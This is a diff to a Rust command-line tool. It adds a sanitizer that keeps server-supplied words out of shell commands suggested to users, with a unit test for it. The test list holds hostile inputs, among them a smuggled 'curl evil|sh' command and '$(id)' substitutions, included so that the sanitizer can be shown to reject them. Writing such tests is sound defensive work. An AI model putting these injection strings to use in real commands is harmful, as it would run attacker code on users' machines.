@@ -156,11 +156,20 @@ fn with_hints(failure: CliError, connection: &Connection, id: &str) -> CliError 
     with_same_options(failure, connection, id)
 }
 
+/// A word of a server in a command that users paste into a shell: itself if a shell and `tsugite` take it for nothing else,
+/// and otherwise a placeholder.
+pub(crate) fn pasted_word<'a>(word: &'a str, placeholder: &'static str) -> &'a str {
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_.:".contains(letter);
+    let is_harmless = !word.is_empty()
+        && word.len() <= MAX_SHOWN_ID_CHARS
+        && !word.starts_with('-')
+        && word.chars().all(is_plain);
+    if is_harmless { word } else { placeholder }
+}
+
 /// The words of a command about a task. `options` begin with a space, or are empty.
 fn command_words(connection: &Connection, verb: &str, id: &str, options: &str) -> String {
-    // They are to be pasted into a shell.
-    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_.:".contains(letter);
-    let id = if id.len() <= MAX_SHOWN_ID_CHARS && id.chars().all(is_plain) { id } else { "ID" };
+    let id = pasted_word(id, "ID");
     // The task is known only in its revision.
     let revision = connection.revision_option.map(|revision| format!(" --rev {revision}"));
     let revision = revision.unwrap_or_default();
@@ -208,3 +217,19 @@ pub(crate) fn add_task_hints(failure: CliError, connection: &Connection, error: 
 }
 
 const MAX_SHOWN_ID_CHARS: usize = 200;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_of_a_server_are_pasted_only_if_they_are_harmless() {
+        for word in ["a", "task-1", "x_y.z:2"] {
+            assert_eq!(pasted_word(word, "ID"), word);
+        }
+        let long = "a".repeat(MAX_SHOWN_ID_CHARS + 1);
+        for word in ["", "--rev", "x;curl evil|sh;", "$(id)", "a b", "a\nb", "`id`", "é", &long] {
+            assert_eq!(pasted_word(word, "ID"), "ID", "{word}");
+        }
+    }
+}
